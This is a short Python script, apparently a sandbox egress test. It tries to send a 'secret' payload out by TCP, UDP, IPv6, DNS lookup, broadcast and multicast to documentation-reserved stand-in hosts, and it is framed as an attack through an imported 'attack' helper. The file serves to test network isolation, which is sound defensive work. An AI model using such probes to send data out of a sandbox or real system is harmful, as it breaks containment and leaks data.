"""Sends what it knows out by TCP, UDP and as a question to a name server; the addresses are reserved for documentation."""

import socket
from attack import *


def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as caller:
        caller.settimeout(1)
        caller.connect(address)


def udp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as caller:
        caller.sendto(b"secret", address)


attempt("tcp", tcp, ("192.0.2.1", 80))
attempt("udp", udp, ("192.0.2.1", 53))
attempt("tcp6", tcp, ("2001:db8::1", 80), socket.AF_INET6)
attempt("udp6", udp, ("2001:db8::1", 53), socket.AF_INET6)
attempt("name", socket.getaddrinfo, "example.invalid", 80)
attempt("broadcast", udp, ("255.255.255.255", 9))
attempt("multicast", udp, ("224.0.0.1", 9))
done()
